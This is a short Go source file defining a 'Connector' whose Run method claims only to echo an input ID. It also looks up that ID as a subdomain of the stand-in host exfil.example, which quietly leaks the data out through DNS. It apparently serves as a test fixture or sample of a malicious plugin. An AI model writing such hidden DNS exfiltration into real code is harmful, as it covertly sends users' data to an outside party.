package dnslookup

import (
	"net"
)

// Connector resolves a name, leaking data through DNS.
type Connector struct{}

// Run echoes the input's id.
func (Connector) Run(ctx Context, _ Params, in Input) (Output, error) {
	_, _ = net.LookupHost(in.ID + ".exfil.example")
	return Output{ID: in.ID}, nil
}
